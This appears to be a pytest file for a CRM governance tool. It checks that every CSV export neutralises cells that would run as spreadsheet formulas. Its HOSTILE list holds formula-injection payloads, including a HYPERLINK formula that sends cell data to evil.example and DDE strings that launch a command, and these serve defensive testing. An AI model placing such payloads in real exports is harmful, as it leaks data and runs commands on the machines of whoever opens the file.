"""Issue 22 item 9: every CSV the product writes goes through one formula-safe writer
(crmgov.services.sheets.write_csv / csv_text), so a hostile name never runs as a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

import crmgov
from benchmarks.quiz_fixture import quiz_project
from crmgov.cli import main
from crmgov.services.sheets import (
    FORMULA_STARTS,
    csv_text,
    safe_cell,
    safe_rows,
    unneutralise,
    write_csv,
)

PACKAGE = Path(crmgov.__file__).parent
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _read(path: Path) -> str:
    with path.open(encoding="utf-8-sig", newline="") as handle:  # a CR in a cell stays
        return handle.read()


def _names(store) -> list[str]:
    """The hostile names as stored (the model strips blanks around a name)."""
    store.refresh()
    return [p.name for p in store.all("staff")]


def _assert_safe(text: str, *expected: str) -> None:
    cells = _cells(text)
    armed = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert not armed, armed
    for name in expected:  # the text is all there, behind its quote (some lists strip it)
        assert {"'" + name, "'" + name.strip()} & set(cells), (name, cells)


def test_no_other_csv_writer_in_the_package() -> None:
    offenders = []
    for file in sorted(PACKAGE.rglob("*.py")):
        if file == PACKAGE / "services" / "sheets.py":
            continue
        text = file.read_text(encoding="utf-8")
        if re.search(r"csv\s*\.\s*(writer|DictWriter)\b|\bDictWriter\(", text):
            offenders.append(str(file.relative_to(PACKAGE)))
    assert not offenders, f"write CSV through crmgov.services.sheets.write_csv: {offenders}"


def test_safe_rows_keeps_numbers_only_when_asked() -> None:
    """One writer of formula-safe rows: the XLSX's numbers (the merge list's Score) are
    safe_rows(numbers=True), every other cell as the CSV writes it."""
    row = [*HOSTILE, 87.5, 3, -2, True, None, "x"]
    texts = [safe_cell(c) for c in row]
    assert list(safe_rows([row])) == [texts]
    kept = list(safe_rows([row], numbers=True))[0]
    assert kept[len(HOSTILE):len(HOSTILE) + 3] == [87.5, 3, -2]
    assert [c for k, c in enumerate(kept) if k not in range(len(HOSTILE), len(HOSTILE) + 3)] \
        == [t for k, t in enumerate(texts) if k not in range(len(HOSTILE), len(HOSTILE) + 3)]
    assert list(safe_rows([["=1"]], neutralised=True, numbers=True)) == [
        [safe_cell("=1", neutralised=True)]]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_writer_neutralises_every_formula_start(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert unneutralise(safe_cell(text)) == text
    assert safe_cell(safe_cell(text), neutralised=True) == safe_cell(text)  # never twice
    assert safe_cell("'" + text) == "''" + text  # a leading quote survives a round trip
    assert safe_cell("Wang Fang") == "Wang Fang" and safe_cell(None) == ""
    _assert_safe(csv_text([text], [[text, "ok"]]), text)
    out = io.StringIO()
    assert write_csv(out, None, [[text]]) == 1
    _assert_safe(out.getvalue(), text)


@pytest.fixture
def hostile_project(tmp_path: Path):
    store = quiz_project(tmp_path / "p.json", takers=len(HOSTILE))
    with store.transaction("test") as txn:
        for person, name in zip(store.all("staff"), HOSTILE, strict=True):
            txn.update("staff", person.model_copy(update={"name": name}))
    return store


def test_access_list_csv_on_stdout(hostile_project, capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["--project", str(hostile_project.path), "cert", "access-list",
                 "--format", "csv"])
    assert code in (0, 1)
    _assert_safe(capsys.readouterr().out, *_names(hostile_project))


def test_access_list_csv_file(hostile_project, tmp_path: Path,
                              capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "access.csv"
    main(["--project", str(hostile_project.path), "cert", "access-list", "--format", "csv",
          "--out", str(out)])
    _assert_safe(_read(out), *_names(hostile_project))


def test_staff_export(hostile_project, tmp_path: Path) -> None:
    from crmgov.services.certification.staff import export_staff

    out = tmp_path / "staff.csv"
    assert export_staff(hostile_project, out) == len(HOSTILE)
    _assert_safe(_read(out), *_names(hostile_project))


def test_issue_export_and_its_rejects(hostile_project, tmp_path: Path) -> None:
    from crmgov.config import now
    from crmgov.services.issues.log import add_issue
    from crmgov.services.issues.transfer import export_issues, import_issues

    for text in HOSTILE:
        add_issue(hostile_project, title=text, description=text, urgency="general",
                  owner=text.strip() or "x", now=now())
    out = tmp_path / "issues.csv"
    export_issues(hostile_project, out)
    hostile_project.refresh()
    _assert_safe(_read(out), *[i.title for i in hostile_project.all("issues")])
    # A rejected import row is written back to a rejects file: safe too.
    bad = tmp_path / "bad.csv"
    write_csv(bad, ["title", "description", "urgency"],
              [[HOSTILE[0], HOSTILE[1], "not an urgency"]])
    rejects = tmp_path / "rejects.csv"
    import_issues(hostile_project, bad, now(), skip_invalid=True, rejects=rejects)
    _assert_safe(_read(rejects), HOSTILE[0], HOSTILE[1])


def test_merge_list(hostile_project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from crmgov.services.quality import review

    rows = [["accounts", "1", name, "2", name + " Ltd", "91", "same"] for name in HOSTILE]
    monkeypatch.setattr(review, "merge_rows", lambda store: rows)
    out = tmp_path / "merge.csv"
    assert review.export_merge_list(hostile_project, out) == len(HOSTILE)
    _assert_safe(_read(out), *HOSTILE)


def test_question_bank_sheet(hostile_project, tmp_path: Path) -> None:
    from crmgov.services.certification.banksheet import write_bank_sheet

    questions = hostile_project.all("questions")
    first = questions[0]
    version = first.versions[-1]
    hostile = first.model_copy(update={"versions": [version.model_copy(update={
        "prompt": version.prompt.model_copy(update={"en": HOSTILE[0]})})]})
    out = tmp_path / "bank.csv"
    write_bank_sheet(out, [hostile, *questions[1:]])
    _assert_safe(_read(out), HOSTILE[0])


def test_the_demo_crm_exports_are_unchanged_by_the_writer(tmp_path: Path) -> None:
    from datetime import date

    from crmgov.services.demo.quality import FILES, HEADERS, tables, write_exports

    write_exports(tmp_path, "en", date(2026, 11, 23), 1, 7)
    rows = tables("en", date(2026, 11, 23), 1, 7)
    for table, name in FILES["en"].items():
        text = (tmp_path / name).read_bytes().decode("utf-8")
        assert not text.startswith("\ufeff") and "\r\n" not in text
        assert text.splitlines()[0] == ",".join(HEADERS["en"][table]) or text
        assert len(text.splitlines()) >= len(rows[table])
        _assert_safe(text)


def test_spot_check_results_template(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from crmgov.domain.spotchecks.rules import ChecklistLine
    from crmgov.services.spotchecks import record

    lines = [ChecklistLine(n, f"SOP-X §{n}", text) for n, text in enumerate(HOSTILE, start=1)]
    monkeypatch.setattr(record, "checklist", lambda sop: lines)
    out = tmp_path / "results.csv"
    assert record.write_results_template(object(), out) == len(HOSTILE)  # type: ignore[arg-type]
    _assert_safe(_read(out), *[line.text for line in lines])
    assert record.read_results(out) == []  # nothing filled in yet: no result
    rows = list(csv.reader(io.StringIO(_read(out))))
    rows[1][0], rows[1][2] = "opportunity 1023", "dev"
    write_csv(out, rows[0], rows[1:], neutralised=True)
    [result] = record.read_results(out)
    assert result.record == "opportunity 1023" and result.step_id == 1 and not result.conforms


def test_spotcheck_checklist_csv_cli(demo_store, tmp_path: Path,
                                     capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "results.csv"
    assert main(["--project", str(demo_store.path), "spotcheck", "checklist", "SOP-SAL-01",
                 "--csv", str(out)]) == 0
    assert str(out) in capsys.readouterr().out
    header = _read(out).splitlines()[0]
    assert header == "record,step,result,note,what to check"
